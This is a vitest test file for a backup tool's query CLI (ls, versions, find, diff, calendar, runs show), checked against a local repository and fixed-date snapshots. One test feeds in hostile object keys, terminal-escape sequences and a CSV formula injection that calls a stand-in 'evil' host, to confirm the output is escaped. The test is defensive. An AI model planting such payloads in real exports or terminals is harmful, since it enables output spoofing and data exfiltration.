// The query commands as users meet them: the real bin/lakeguard on a file:// repository with a
// local path source changed between backups, and (for output pinned by snapshots) the same
// repository read through a hand-built catalog with fixed dates.
import { mkdirSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Catalog } from '../../src/catalog/catalog.js';
import { runCli, summaryOf, type CliResult, messagesOf } from '../helpers/cli.js';
import { tempDir, writeTree } from '../helpers/fixtures.js';
import { seedQueryCatalog } from '../helpers/query-fixture.js';
import { emptyCounters } from '../../src/engine/events.js';

const PASSWORD = 'query-commands-pw';

describe('query commands', { timeout: 120_000 }, () => {
  let dir: ReturnType<typeof tempDir>;
  let policy: string;
  let fixed: string;
  const runIds: string[] = [];
  const env = (extra: Record<string, string | undefined> = {}) => ({ LAKEGUARD_PASSWORD: PASSWORD, LAKEGUARD_CACHE_DIR: join(dir.path, 'cache'), TZ: 'UTC', ...extra });
  const cli = (args: string[], extra: Record<string, string | undefined> = {}) => runCli(['--policy', policy, ...args], env(extra));
  /** Against the hand-built catalog (fixed dates, two buckets, failures). */
  const fixedCli = (args: string[], extra: Record<string, string | undefined> = {}) => runCli(['--policy', policy, '--catalog', fixed, ...args], env({ NO_COLOR: '1', ...extra }));
  const ok = (r: CliResult): CliResult => {
    expect(r.code, `exit ${r.code}\n${r.stdout}\n${r.stderr}`).toBe(0);
    return r;
  };
  const lines = (r: CliResult, type: string) => r.messages.filter((m) => m.message_type === type);

  /** Writes a file of the lake with a given mtime (hours before now), so each change is a new version. */
  const put = (key: string, body: string, hoursAgo: number) => {
    const path = join(dir.path, 'lake', key);
    writeTree(join(dir.path, 'lake'), { [key]: body });
    const t = (Date.now() - hoursAgo * 3_600_000) / 1000;
    utimesSync(path, t, t);
  };

  beforeAll(async () => {
    dir = tempDir('query-cli');
    policy = join(dir.path, 'lakeguard.yaml');
    writeFileSync(policy, 'version: 1\nrepository:\n  url: file://./repo\ngroups:\n  - name: local\n    sources:\n      - path: ./lake\n');
    put('a/1.json', 'v1', 5);
    put('a/2.json', 'two', 5);
    put('b/c/3.csv', 'x,y\n', 5);
    put('top.txt', 'top', 5);
    ok(await cli(['init']));
    ok(await cli(['backup', '--quiet'])); // run 1
    put('a/1.json', 'v2-longer', 4);
    put('a/new.json', 'new', 4);
    ok(await cli(['backup', '--quiet'])); // run 2
    put('a/1.json', 'v3-longer-still', 3);
    ok(await cli(['backup', '--quiet'])); // run 3
    rmSync(join(dir.path, 'lake', 'a/1.json'));
    ok(await cli(['backup', '--quiet'])); // run 4
    const runs = ok(await cli(['runs', '--json']));
    runIds.push(...messagesOf(runs, 'run').map((r) => r.id as string));
    expect(runIds).toHaveLength(4);

    // The same repository, read through a catalog built by hand.
    const repoId = (JSON.parse(readFileSync(join(dir.path, 'repo', 'config'), 'utf8')) as { id: string }).id;
    fixed = join(dir.path, 'fixed.db');
    const cat = Catalog.open(fixed, repoId);
    seedQueryCatalog(cat);
    cat.close();
  }, 120_000);

  afterAll(() => dir.cleanup());

  it('versions: a key changed twice and deleted, newest first, with its runs and data', async () => {
    const r = ok(await cli(['versions', 's3://lake/a/1.json', '--json']));
    const versions = lines(r, 'version');
    expect(versions.map((v) => [v.deleteMarker, v.size, v.run, v.dataPresent])).toEqual([
      [true, 0, runIds[3], null],
      [false, 15, runIds[2], true],
      [false, 9, runIds[1], true],
      [false, 2, runIds[0], true],
    ]);
    expect(versions.every((v) => v.bucket === 'lake' && v.key === 'a/1.json' && v.versionId === null)).toBe(true);
    expect(summaryOf(r)).toMatchObject({ versions: 4, deleteMarkers: 1, missingData: 0 });

    const text = ok(await cli(['versions', 's3://lake/a/1.json']));
    expect(text.stdout.split('\n')[0]).toMatch(/^TIME\s+SIZE\s+ETAG\s+VERSION ID\s+DATA\s+RUN$/);
    expect(text.stdout).toMatch(/\(delete marker\)/);
    expect(text.stdout.trim().split('\n').at(-1)).toBe('s3://lake/a/1.json: 4 versions (1 delete marker)');

    const none = ok(await cli(['versions', 's3://lake/a/none.json']));
    expect(none.stdout).toMatch(/no versions of s3:\/\/lake\/a\/none.json in the catalog \(look for it elsewhere with `lakeguard find 'none.json'`\)/);
    // A directory is not a key: the next step lists it (a `find ''` would be refused).
    const dir = ok(await cli(['versions', 's3://lake/a/']));
    expect(dir.stdout).toMatch(/no versions of s3:\/\/lake\/a\/ in the catalog \(it names a prefix, not a key: `lakeguard ls s3:\/\/lake\/a\/` lists what is under it\)/);
    ok(await cli(['ls', 's3://lake/a/']));
  });

  it('ls --at the first run shows the lake as it was; without --at as it is', async () => {
    const first = ok(await cli(['ls', 's3://lake/', '--at', runIds[0]!, '--json']));
    expect(lines(first, 'entry').map((e) => [e.type, e.name, e.objects])).toEqual([
      ['prefix', 'a/', 2],
      ['prefix', 'b/', 1],
      ['object', 'top.txt', 1],
    ]);
    const inside = ok(await cli(['ls', 's3://lake/a/', '--at', runIds[0]!, '--json']));
    expect(lines(inside, 'entry').map((e) => [e.name, e.bytes])).toEqual([
      ['a/1.json', 2],
      ['a/2.json', 3],
    ]);
    const now = ok(await cli(['ls', 's3://lake/a/', '--json']));
    expect(lines(now, 'entry').map((e) => e.name)).toEqual(['a/2.json', 'a/new.json']);
    expect(summaryOf(now)).toMatchObject({ prefixes: 0, keys: 2, objects: 2, bytes: 6 });
    // By run number and by a time: run 2 had the second version of 1.json.
    const second = ok(await cli(['ls', 's3://lake/a/', '--at', '2', '--json']));
    expect(lines(second, 'entry').map((e) => [e.name, e.bytes])).toEqual([
      ['a/1.json', 9],
      ['a/2.json', 3],
      ['a/new.json', 3],
    ]);
    const hoursAgo = ok(await cli(['ls', 's3://lake/a/', '--at', '4.5h', '--json']));
    expect(lines(hoursAgo, 'entry').map((e) => [e.name, e.bytes])).toEqual([
      ['a/1.json', 2],
      ['a/2.json', 3],
    ]);
  });

  it('an instant before the first run finished is answered with a warning that the state there is partial', async () => {
    const warning = (flag: string) =>
      new RegExp(
        `^warning: ${flag} [\\d-]+ [\\d:.]+Z is before the first run finished \\(${runIds[0]}, at [\\d-]+ [\\d:.]+Z\\): ` +
          'the state there holds only what that run found with older times; what was deleted or overwritten before it is unknown\n$',
      );
    const ls = ok(await cli(['ls', 's3://lake/a/', '--at', '4.5h', '--quiet']));
    expect(ls.stdout).toContain('1.json');
    expect(ls.stderr).toMatch(warning('--at'));
    expect(ok(await cli(['find', '**/*.json', '--at', '4.5h', '--quiet'])).stderr).toMatch(warning('--at'));
    const diff = ok(await cli(['diff', '4.5h', runIds[3]!, '--json']));
    expect(JSON.parse(diff.stderr)).toMatchObject({ message_type: 'warning' });
    expect(`warning: ${JSON.parse(diff.stderr).message}\n`).toMatch(warning('diff <from>'));
    // A run, or a time after the first run finished: no warning.
    expect(ok(await cli(['ls', 's3://lake/a/', '--at', runIds[0]!])).stderr).toBe('');
    expect(ok(await cli(['diff', runIds[0]!, 'now'])).stderr).toBe('');
    // A repository with no run yet: "no changes", and why.
    const empty = join(dir.path, 'no-run.yaml');
    writeFileSync(empty, 'version: 1\nrepository:\n  url: file://./no-run-repo\ngroups:\n  - name: local\n    sources:\n      - path: ./lake\n');
    ok(await runCli(['--policy', empty, 'init'], env()));
    const none = ok(await runCli(['--policy', empty, 'diff', '1h', 'now', '--quiet'], env()));
    expect(none.stderr.split('\n').filter((l) => l !== '')).toEqual([
      expect.stringMatching(/^warning: diff <from> [\d-]+ [\d:.]+Z: no run has finished yet, so the catalog knows nothing of the buckets then \(`lakeguard runs`\)$/),
      expect.stringMatching(/^warning: diff <to> [\d-]+ [\d:.]+Z: no run has finished yet/),
    ]);
  });

  it('diff between runs: counts and bytes first, the keys with --details', async () => {
    const oneToFour = summaryOf(ok(await cli(['diff', runIds[0]!, runIds[3]!, '--json'])));
    expect(oneToFour).toMatchObject({ added: { objects: 1, bytes: 3 }, changed: { objects: 0 }, deleted: { objects: 1, bytes: 2 }, buckets: ['lake'] });
    const oneToThree = ok(await cli(['diff', runIds[0]!, runIds[2]!, '--details', '--json']));
    expect(summaryOf(oneToThree)).toMatchObject({ added: { objects: 1, bytes: 3 }, changed: { objects: 1, bytes: 15, bytesBefore: 2 }, deleted: { objects: 0 }, listed: 2 });
    expect(lines(oneToThree, 'change').map((c) => [c.change, c.key])).toEqual([
      ['changed', 'a/1.json'],
      ['added', 'a/new.json'],
    ]);
    const text = ok(await cli(['diff', '1', '4', '--group', 'local', '--prefix', 'a/']));
    expect(text.stdout).toMatch(/^from run \S+ \(#1, finished [\d-]+ [\d:]+\.\d{3}Z\) to run \S+ \(#4, .*\), bucket lake, prefix a\/, group local:\n {2}added {6}1 object {7}3 B\n/);
    expect(text.stdout).toMatch(/\(list the keys with --details\)/);
  });

  it('calendar --json gives every day of the month and the runs of today', async () => {
    const runs = messagesOf(ok(await cli(['runs', '--json'])), 'run');
    const day = new Date(runs[0]!.started).toISOString().slice(0, 10);
    const r = ok(await cli(['calendar', '--json', '--month', day.slice(0, 7)]));
    const days = lines(r, 'day');
    expect(days[0]!.date).toBe(`${day.slice(0, 7)}-01`);
    const busy = days.filter((d) => (d.runs as unknown[]).length > 0);
    expect(busy.map((d) => [d.date, d.complete])).toEqual([[day, 4]]);
    expect((busy[0]!.runs as { id: string; status: string }[]).map((x) => x.id)).toEqual(runIds);
    for (const run of busy[0]!.runs as { started: number; startedIso: string }[]) expect(run.startedIso).toBe(new Date(run.started).toISOString());
    expect(summaryOf(r)).toMatchObject({ runs: 4, complete: 4, partial: 0, failed: 0, timeZone: 'UTC' });
    const bad = await cli(['calendar', '--month', '2026-13']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/--month "2026-13": expected YYYY-MM/);
  });

  it('runs show: counters, and failures as CSV with only the header when there are none', async () => {
    const csv = ok(await cli(['runs', 'show', runIds[1]!, '--failures', '--csv']));
    expect(csv.stdout).toBe('bucket,key,version_id,code,message\n');
    const text = ok(await cli(['runs', 'show', '2']));
    expect(text.stdout).toMatch(/^run {7}\S+ \(#2\)\ngroup {5}local\nstatus {4}complete\n/);
    expect(text.stdout).toMatch(/\nversions {2}2 recorded, 12 B\n/);
    expect(text.stdout).toMatch(/\nfailures {2}none\n\nCHANGE +TIME +SIZE +ETAG +VERSION ID +OBJECT\nchanged +\S+ \S+ +9 B .* s3:\/\/lake\/a\/1\.json\nadded +.* s3:\/\/lake\/a\/new\.json\n$/);
    // The same definitions as diff: run 2 over run 1.
    expect(text.stdout).toMatch(/\nkeys {6}1 added, 1 changed, 0 deleted \(as `lakeguard diff 1 2` counts them\)\n/);
    const json = summaryOf(ok(await cli(['runs', 'show', runIds[3]!, '--json'])));
    expect(json).toMatchObject({ id: runIds[3], versionsRecorded: 1, deleteMarkersRecorded: 1, failures: 0, counters: { objectsDeleted: 1 }, changes: { deleted: { objects: 1 } } });
    expect(json.finishedIso).toBe(new Date(json.finished).toISOString());
    // Plain `runs` still lists.
    expect(ok(await cli(['runs'])).stdout).toMatch(/^ID\s+GROUP\s+FINISHED/);
  });

  it('diff <run> live compares a local source as it is now with the backup', async () => {
    // Nothing changed in the lake since run 4.
    expect(summaryOf(ok(await cli(['diff', '4', 'live', '--json'])))).toMatchObject({ identical: true, unchanged: { objects: 4 }, to: 'live' });
    const since1 = ok(await cli(['diff', '1', 'live', '--details', '--json']));
    expect(lines(since1, 'change').map((c) => `${c.change} ${c.key}`)).toEqual(['deleted a/1.json', 'added a/new.json']);
    expect(summaryOf(since1)).toMatchObject({ identical: false, unchanged: { objects: 3 }, added: { objects: 1 }, deleted: { objects: 1 }, changed: { objects: 0 } });
    expect(ok(await cli(['diff', '1', 'live', '--prefix', 'b/'])).stdout).toMatch(/^identical: the live bucket lake, prefix b\/ holds the same keys/m);
    // From live to an instant makes no sense: refused, not guessed.
    expect((await cli(['diff', 'live', '1'])).code).toBe(2);
  });

  it('a query whose reader closes stdout ends quietly with exit 0', async () => {
    const { spawn } = await import('node:child_process');
    const bin = new URL('../../bin/lakeguard', import.meta.url).pathname;
    const child = spawn(process.execPath, [bin, '--policy', policy, 'find', '**', '--json'], { env: { PATH: process.env.PATH, HOME: process.env.HOME, ...env() }, stdio: ['ignore', 'pipe', 'pipe'] });
    child.stdout.destroy(); // as `| head -0` would
    let stderr = '';
    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
    expect(stderr).toBe('');
    expect(code).toBe(0);
  });

  it('find: globs, --deleted, --larger-than and --since through the CLI', async () => {
    const all = ok(await cli(['find', 'a/**', '--json']));
    expect(lines(all, 'match').map((m) => [m.key, m.deleted, m.versions])).toEqual([
      ['a/1.json', true, 4],
      ['a/2.json', false, 1],
      ['a/new.json', false, 1],
    ]);
    expect(lines(ok(await cli(['find', '*.json', '--deleted', '--json'])), 'match').map((m) => m.key)).toEqual(['a/1.json']);
    expect(lines(ok(await cli(['find', '**', '--larger-than', '3', '--json'])), 'match').map((m) => m.key)).toEqual(['b/c/3.csv']);
    expect(lines(ok(await cli(['find', '**', '--since', runIds[1]!, '--json'])), 'match').map((m) => m.key)).toEqual(['a/1.json']);
    expect(lines(ok(await cli(['find', '*.json', '--at', runIds[0]!, '--bucket', 'lake', '--json'])), 'match').map((m) => m.key)).toEqual(['a/1.json', 'a/2.json']);
  });

  it('refuses bad usage with exit 2, naming the problem', async () => {
    const cases: [string[], RegExp][] = [
      [['versions', 's3://nope/x'], /no bucket or source named "nope" in the catalog\n {2}hint: known: lake/],
      [['versions', 'lake/x'], /expected s3:\/\/bucket\/key/],
      [['versions', 's3://lake/'], /names no key/],
      [['ls', 's3://lake/', '--at', 'last tuesday'], /--at: cannot read "last tuesday" as an instant or a run\n {2}hint: accepted: ISO 8601/],
      [['find', 'a/{b'], /invalid glob "a\/\{b"/],
      [['find', '**', '--larger-than', '10MB'], /--larger-than "10MB": expected a size/],
      [['diff', '1', 'nope'], /diff <to>: cannot read "nope"/],
      [['diff', '1', '2', '--group', 'nope'], /no group named "nope"/],
      [['runs', 'show', 'nope'], /no run "nope" in the catalog/],
      [['runs', 'show'], /missing required argument 'id'/],
    ];
    for (const [args, message] of cases) {
      const r = await cli(args);
      expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(2);
      expect(r.stderr).toMatch(message);
    }
  });

  it('keys with terminal escapes and newlines are printed escaped everywhere; CSV cells cannot be formulas', async () => {
    const evil = 'x/\x1b[2K\x1b[1Aok\nfake line\r\x7f\x9b.csv';
    const shown = 'x/\\x1b[2K\\x1b[1Aok\\nfake line\\r\\x7f\\x9b.csv';
    const repoId = (JSON.parse(readFileSync(join(dir.path, 'repo', 'config'), 'utf8')) as { id: string }).id;
    const hostile = join(dir.path, 'hostile.db');
    const cat = Catalog.open(hostile, repoId);
    const r1 = cat.beginRun({ id: '20261102T100000Z-aaaaaa', group: 'g', started: Date.UTC(2026, 10, 2, 10), host: 'h' });
    const r2 = cat.beginRun({ id: '20261103T100000Z-bbbbbb', group: 'g', started: Date.UTC(2026, 10, 3, 10), host: 'h' });
    const version = (key: string, t: number, deleteMarker = false) => ({ bucket: 'raw', key, versionId: null, deleteMarker, size: deleteMarker ? 0 : 1, etag: '"e"', lastModified: t, validFrom: t, blobs: [] });
    cat.transaction(() => {
      cat.insertVersions(r1, [version(evil, Date.UTC(2026, 10, 2, 5)), version('x/ok.csv', Date.UTC(2026, 10, 2, 5))]);
      cat.insertVersions(r2, [version(evil, Date.UTC(2026, 10, 3, 5), true)]);
      cat.insertFailures(r2, [
        { bucket: 'raw', key: '=HYPERLINK("http://evil/"&A1)', versionId: null, code: 'AccessDenied', message: 'denied' },
        { bucket: 'raw', key: evil, versionId: null, code: 'AccessDenied', message: `GET s3://raw/${evil}: denied` },
      ]);
    });
    for (const seq of [r1, r2]) cat.finishRun(seq, 'complete', Date.UTC(2026, 10, seq + 1, 10, 5), { ...emptyCounters() });
    cat.close();
    const h = (args: string[]) => runCli(['--policy', policy, '--catalog', hostile, ...args], env({ NO_COLOR: '1' }));
    const outputs = await Promise.all([
      h(['versions', `s3://raw/${evil}`]),
      h(['find', 'x/**']),
      h(['ls', 's3://raw/x/', '--at', '1']),
      h(['diff', '1', '2', '--details']),
      h(['runs', 'show', '2', '--failures']),
    ]);
    outputs.push(await h(['runs', 'show', '2'])); // its version list (after the others: see the report on concurrent opens)
    for (const [i, r] of outputs.entries()) {
      expect(r.code, `${i} ${r.stderr}`).toBe(0);
      expect(r.stdout).toContain(shown.slice(2)); // ls shows names below the prefix
      expect(r.stdout + r.stderr).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f]/);
    }
    // --json keeps the key as it is.
    const json = await h(['find', 'x/**', '--json']);
    expect(lines(json, 'match').map((m) => m.key)).toContain(evil);
    const csv = await h(['runs', 'show', '2', '--csv']);
    expect(csv.stdout.split('\n')[1]).toBe(`raw,"'=HYPERLINK(""http://evil/""&A1)",,AccessDenied,denied`);
  });

  it('an unknown group is exit 2 with the known groups, never an empty answer; bucket hints say what the catalog holds', async () => {
    for (const args of [['runs', '--group', 'nope'], ['calendar', '--group', 'nope'], ['diff', '1', '2', '--group', 'nope']]) {
      const r = await cli(args);
      expect(r.code, `${args.join(' ')}: ${r.stdout}`).toBe(2);
      expect(r.stderr, args.join(' ')).toBe('lakeguard: no group named "nope" in the policy or the catalog\n  hint: groups: local\n');
    }
    // A repository whose only run recorded nothing (an empty source) has a catalog that is not "empty".
    const emptyPolicy = join(dir.path, 'empty-source.yaml');
    mkdirSync(join(dir.path, 'empty-lake'));
    writeFileSync(emptyPolicy, 'version: 1\nrepository:\n  url: file://./empty-repo\ngroups:\n  - name: local\n    sources:\n      - path: ./empty-lake\n');
    ok(await runCli(['--policy', emptyPolicy, 'init'], env()));
    ok(await runCli(['--policy', emptyPolicy, 'backup', '--quiet'], env()));
    const ls = await runCli(['--policy', emptyPolicy, 'ls', 's3://empty-lake/'], env());
    expect(ls.code).toBe(2);
    expect(ls.stderr).toMatch(/hint: none of the 1 run in the catalog recorded an object: see `lakeguard runs`/);
  });

  it('--json: every line of every command is a message with a message_type (runs included)', async () => {
    // (versions, find, ls and diff share one printer; verify, prune, forget, policy and the rest
    // print only reporter summaries.)
    const commands = [['runs'], ['runs', 'show', '1', '--failures'], ['find', '**'], ['calendar'], ['cost'], ['backup', '--dry-run'], ['runs', '--group', 'nope'], ['runs', '--bogus']];
    const results = await Promise.all(commands.map((args) => cli([...args, '--json'])));
    for (const [i, r] of results.entries()) {
      const what = `${commands[i]!.join(' ')} (exit ${r.code}): ${r.stdout}${r.stderr}`;
      const printed = [...r.stdout.split('\n'), ...r.stderr.split('\n')].filter((l) => l !== '');
      expect(printed.length, what).toBeGreaterThan(0);
      for (const line of printed) {
        const message = JSON.parse(line) as unknown;
        expect(typeof message === 'object' && message !== null && !Array.isArray(message), what).toBe(true);
        expect(typeof (message as { message_type?: unknown }).message_type, what).toBe('string');
      }
    }
    expect(messagesOf(results[0]!, 'run').map((r) => r.id)).toEqual(runIds);
    expect(summaryOf(results[0]!)).toMatchObject({ runs: 4 });
  });

  describe('human output on fixed dates', () => {
    it('ls', async () => {
      expect(ok(await fixedCli(['ls', 's3://raw/', '--at', '2026-11-03T12:00Z'])).stdout).toMatchInlineSnapshot(`
        "TIME                       SIZE  OBJECTS  NAME
        2026-11-03 06:00:00.000Z  810 B        3  a/
        2026-11-02 08:00:00.000Z   50 B           c.txt
        s3://raw/ at 2026-11-03 12:00:00.000Z: 1 prefix, 1 key; 4 objects, 860 B in all
        "
      `);
      expect(ok(await fixedCli(['ls', 's3://raw/a/'])).stdout).toMatchInlineSnapshot(`
        "TIME                       SIZE  OBJECTS  NAME
        2026-11-04 06:00:00.000Z  210 B           2.csv
        2026-11-03 06:00:00.000Z  700 B        2  b/
        s3://raw/a/: 1 prefix, 1 key; 3 objects, 910 B in all
        "
      `);
    });

    it('versions', async () => {
      expect(ok(await fixedCli(['versions', 's3://raw/a/1.csv'])).stdout).toMatchInlineSnapshot(`
        "TIME                       SIZE  ETAG                        VERSION ID  DATA     RUN
        2026-11-04 07:00:00.000Z      -  (delete marker)             1-dm        -        20261104T100000Z-cccccc
        2026-11-04 05:00:00.000Z  120 B  etag-a/1.csv-1793768400000  1-c         present  20261104T100000Z-cccccc
        2026-11-03 05:00:00.000Z  110 B  etag-a/1.csv-1793682000000  1-b         present  20261103T100000Z-bbbbbb
        2026-11-02 05:00:00.000Z  100 B  etag-a/1.csv-1793595600000  1-a         present  20261102T100000Z-aaaaaa
        s3://raw/a/1.csv: 4 versions (1 delete marker)
        "
      `);
      expect(ok(await fixedCli(['versions', 's3://raw/c.txt'])).stdout).toMatchInlineSnapshot(`
        "TIME                      SIZE  ETAG                      VERSION ID  DATA     RUN
        2026-11-02 08:00:00.000Z  50 B  etag-c.txt-1793606400000  c-a         MISSING  20261102T100000Z-aaaaaa
        s3://raw/c.txt: 1 version; 1 with missing data (run \`lakeguard verify\`)
        "
      `);
    });

    it('calendar (NO_COLOR)', async () => {
      expect(ok(await fixedCli(['calendar', '--month', '2026-11', '--group', 'finance'])).stdout).toMatchInlineSnapshot(`
        "November 2026  group finance  (days in UTC time)

        Mo     Tu     We     Th     Fr     Sa     Su
                                                   1
         2 ●    3 ◐    4 ●    5      6      7      8
         9     10     11     12     13     14     15
        16     17     18     19     20     21     22
        23     24     25     26     27     28     29
        30

        ● complete   ◐ partial (some objects failed)   ✕ failed or interrupted   ○ running

        3 runs: 2 complete, 1 partial
          2026-11-03 10:00:00Z  partial      20261103T100000Z-bbbbbb  finance  2 objects failed
        (details: \`lakeguard runs show <id> --failures\`)
        "
      `);
    });

    it('diff and find', async () => {
      expect(ok(await fixedCli(['diff', '1', '3', '--bucket', 'raw', '--details'])).stdout).toMatchInlineSnapshot(`
        "from run 20261102T100000Z-aaaaaa (#1, finished 2026-11-02 10:05:00.000Z) to run 20261104T100000Z-cccccc (#3, finished 2026-11-04 10:05:00.000Z), bucket raw:
          added      2 objects      5.00 MiB
          changed    1 object       200 B -> 210 B
          deleted    1 object       100 B
        CHANGE   BEFORE     AFTER  TIME                      ETAG BEFORE                 ETAG AFTER                    OBJECT
        deleted   100 B         -  2026-11-04 07:00:00.000Z  etag-a/1.csv-1793595600000  -                             s3://raw/a/1.csv
        changed   200 B     210 B  2026-11-04 06:00:00.000Z  etag-a/2.csv-1793599200000  etag-a/2.csv-1793772000000    s3://raw/a/2.csv
        added         -     400 B  2026-11-03 06:00:00.000Z  -                           etag-a/b/4.csv-1793685600000  s3://raw/a/b/4.csv
        added         -  5.00 MiB  2026-11-04 08:00:00.000Z  -                           etag-d.bin-1793779200000      s3://raw/d.bin
        "
      `);
      expect(ok(await fixedCli(['find', '*.csv', '--at', '2026-11-03T12:00Z'])).stdout).toMatchInlineSnapshot(`
        "TIME                      STATE     SIZE  VERSIONS  OBJECT
        2026-11-03 05:00:00.000Z  object   110 B         4  s3://raw/a/1.csv
        2026-11-03 09:00:00.000Z  deleted      -         3  s3://raw/a/2.csv
        2026-11-02 07:00:00.000Z  object   300 B         1  s3://raw/a/b/3.csv
        2026-11-03 06:00:00.000Z  object   400 B         1  s3://raw/a/b/4.csv
        4 keys matched at 2026-11-03 12:00:00.000Z (1 deleted), 810 B
        "
      `);
    });

    it('runs show with failures, as text and as CSV', async () => {
      expect(ok(await fixedCli(['runs', 'show', '20261103', '--failures'])).stdout).toMatchInlineSnapshot(`
        "run       20261103T100000Z-bbbbbb (#2)
        group     finance
        status    partial
        host      backup-1
        started   2026-11-03 10:00:00.000Z
        finished  2026-11-03 10:05:00.000Z (5m00s)
        keys      1 added, 1 changed, 1 deleted (as \`lakeguard diff 1 2\` counts them)
        listing   4 seen: 1 new, 1 changed, 0 unchanged, 1 deleted, 2 failed, 0 excluded
        data      0 B read, 0 B new, 0 B stored in 0 packs
        blobs     0 new, 0 deduplicated
        requests  0 list, 0 get, 0 head, 0 put, 0 delete
        versions  3 recorded (1 delete marker), 510 B
        failures  2:
        CODE          OBJECT                              MESSAGE
        AccessDenied  s3://raw/a/locked.csv (version x1)  Access Denied
        NotFound      s3://raw/a/with,comma "quoted".csv  gone, between list and get
        "
      `);
      expect(ok(await fixedCli(['runs', 'show', '20261103', '--csv'])).stdout).toMatchInlineSnapshot(`
        "bucket,key,version_id,code,message
        raw,a/locked.csv,x1,AccessDenied,Access Denied
        raw,"a/with,comma ""quoted"".csv",,NotFound,"gone, between list and get"
        "
      `);
    });
  });
});
